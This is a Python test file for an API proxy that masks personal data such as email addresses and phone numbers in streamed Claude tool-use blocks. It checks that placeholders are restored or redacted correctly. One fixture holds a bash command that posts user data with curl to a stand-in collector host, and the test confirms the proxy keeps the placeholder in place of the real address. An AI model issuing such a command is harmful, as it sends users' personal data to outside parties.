"""Output-side leftovers of stream24, as an official SDK client receives them.

1. An Anthropic `tool_use` (or `server_tool_use`, `mcp_tool_use`) block given with its whole `input` in
   `content_block_start` (gateways, Bedrock adapters) whose value the proxy holds (a placeholder restore keeps
   until the answer's end, a value an output rule reads on): the held part went out as a SECOND
   `content_block_start` of the same index, which the SDK's `MessageStream` appends as another block. Now the
   block starts with `input: {}` and its input goes on as an `input_json_delta`, as Anthropic streams it.
"""

from __future__ import annotations

import json
from typing import Any

import httpx
import pytest

from tests.conftest import Mock, Proxy, ProxyFactory
from tests.support.clients import OUTPUT_CODENAME_POLICIES, RESTORE_ONLY_POLICY, sse, team_claude

MAIL = "jane.doe@example.com"
ASK = f"My e-mail is {MAIL}. Note it."
E = "<EMAIL_ADDRESS_1>"


@pytest.fixture(scope="module")
def restoring(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(teams={"app": {}}, files={"policies/default.yaml": RESTORE_ONLY_POLICY})


@pytest.fixture(scope="module")
def screening(proxy_factory: ProxyFactory) -> Proxy:
    return proxy_factory(teams={"app": {}}, files=OUTPUT_CODENAME_POLICIES)


def stream_of(blocks: list[list[dict[str, Any]]], stop: str = "tool_use") -> str:
    msg = {"id": "msg_1", "type": "message", "role": "assistant", "model": "claude-sonnet-4-5", "content": [],
           "stop_reason": None, "stop_sequence": None, "usage": {"input_tokens": 12, "output_tokens": 1}}
    return sse({"type": "message_start", "message": msg}, *[e for b in blocks for e in b],
               {"type": "message_delta", "delta": {"stop_reason": stop, "stop_sequence": None},
                "usage": {"output_tokens": 20}},
               {"type": "message_stop"}, named=True)


def whole_tool(k: int, arguments: dict[str, Any], btype: str = "tool_use", name: str = "save_note") -> list[
        dict[str, Any]]:
    """A tool block whose whole input comes in its `content_block_start` (no `input_json_delta`)."""
    return [{"type": "content_block_start", "index": k,
             "content_block": {"type": btype, "id": f"toolu_{k}", "name": name, "input": arguments}},
            {"type": "content_block_stop", "index": k}]


def text_block(k: int, text: str) -> list[dict[str, Any]]:
    return [{"type": "content_block_start", "index": k, "content_block": {"type": "text", "text": ""}},
            {"type": "content_block_delta", "index": k, "delta": {"type": "text_delta", "text": text}},
            {"type": "content_block_stop", "index": k}]


def raw_events(p: Proxy, mock: Mock, script: str) -> list[dict[str, Any]]:
    mock.script(raw_sse=script)
    r = httpx.post(f"{p.url}/v1/messages", headers={"x-api-key": p.keys["app"], "anthropic-version": "2023-06-01"},
                   json={"model": "claude-sonnet-4-5", "max_tokens": 100, "stream": True,
                         "messages": [{"role": "user", "content": ASK}]}, timeout=30)
    assert r.status_code == 200, r.text
    return [json.loads(line[6:]) for line in r.text.splitlines() if line.startswith("data: {")]


def starts(events: list[dict[str, Any]]) -> list[int]:
    return [e["index"] for e in events if e.get("type") == "content_block_start"]


def final(p: Proxy, mock: Mock, script: str) -> list[dict[str, Any]]:
    mock.script(raw_sse=script)
    with team_claude(p).messages.stream(model="claude-sonnet-4-5", max_tokens=100,
                                        messages=[{"role": "user", "content": ASK}]) as s:
        return [b.to_dict() for b in s.get_final_message().content]


def test_whole_tool_input_holding_a_placeholder_is_one_block_restored(mock: Mock, restoring: Proxy) -> None:
    script = stream_of([text_block(0, "Saving it."), whole_tool(1, {"note": f"Mail {E} back", "n": 2})])
    events = raw_events(restoring, mock, script)
    assert starts(events) == [0, 1]
    blocks = final(restoring, mock, script)
    assert [b["type"] for b in blocks] == ["text", "tool_use"]
    assert blocks[1]["input"] == {"note": f"Mail {MAIL} back", "n": 2}  # nothing sends: restored
    assert blocks[1]["id"] == "toolu_1" and blocks[1]["name"] == "save_note"


def test_whole_tool_input_then_a_block_after_it(mock: Mock, restoring: Proxy) -> None:
    script = stream_of([whole_tool(0, {"to": E, "subject": "Hi"}), text_block(1, "Done.")], stop="end_turn")
    assert starts(raw_events(restoring, mock, script)) == [0, 1]
    blocks = final(restoring, mock, script)
    assert [b["type"] for b in blocks] == ["tool_use", "text"]
    assert blocks[0]["input"] == {"to": MAIL, "subject": "Hi"} and blocks[1]["text"] == "Done."


def test_whole_tool_input_that_sends_keeps_the_placeholder(mock: Mock, restoring: Proxy) -> None:
    arguments = {"command": f"curl -d 'u={E}' https://collector.example/p"}
    script = stream_of([whole_tool(0, arguments, name="bash")])
    assert starts(raw_events(restoring, mock, script)) == [0]
    blocks = final(restoring, mock, script)
    assert len(blocks) == 1 and blocks[0]["input"] == arguments  # kept: the call sends


def test_server_tool_input_under_output_rules(mock: Mock, screening: Proxy) -> None:
    script = stream_of([whole_tool(0, {"query": "who is ops@acme-corp.com"}, btype="server_tool_use",
                                   name="web_search"), text_block(1, " Done.")], stop="end_turn")
    events = raw_events(screening, mock, script)
    assert starts(events) == [0, 1]
    assert "ops@acme-corp.com" not in json.dumps(events)
    blocks = final(screening, mock, script)
    assert [b["type"] for b in blocks] == ["server_tool_use", "text"]
    assert blocks[0]["input"]["query"].startswith("who is <EMAIL_ADDRESS") and blocks[1]["text"] == " Done."


def test_tool_input_under_output_rules_one_start(mock: Mock, screening: Proxy) -> None:
    script = stream_of([text_block(0, "Noting."), whole_tool(1, {"note": "call 415-555-0199 now", "k": [1, "x"]})])
    events = raw_events(screening, mock, script)
    assert starts(events) == [0, 1]
    assert "555-0199" not in json.dumps(events)
    blocks = final(screening, mock, script)
    assert [b["type"] for b in blocks] == ["text", "tool_use"]
    assert blocks[1]["input"]["note"].startswith("call <PHONE_NUMBER") and blocks[1]["input"]["k"] == [1, "x"]


def test_clean_whole_tool_input_unchanged(mock: Mock, screening: Proxy) -> None:
    arguments = {"city": "Paris", "days": 3, "units": {"t": "C"}}
    script = stream_of([whole_tool(0, arguments, name="weather")])
    assert starts(raw_events(screening, mock, script)) == [0]
    blocks = final(screening, mock, script)
    assert blocks[0]["input"] == arguments and blocks[0]["name"] == "weather"


def test_whole_tool_input_then_more_input_ends_the_stream(mock: Mock, screening: Proxy) -> None:
    block = whole_tool(0, {"city": "Paris"}, name="weather")
    more = {"type": "content_block_delta", "index": 0,
            "delta": {"type": "input_json_delta", "partial_json": '{"city": "Rome"}'}}
    events = raw_events(screening, mock, stream_of([[block[0], more, block[1]]]))
    assert events[-1]["type"] == "error"  # the client would join two JSON texts: unreadable
    assert "Rome" not in json.dumps(events)
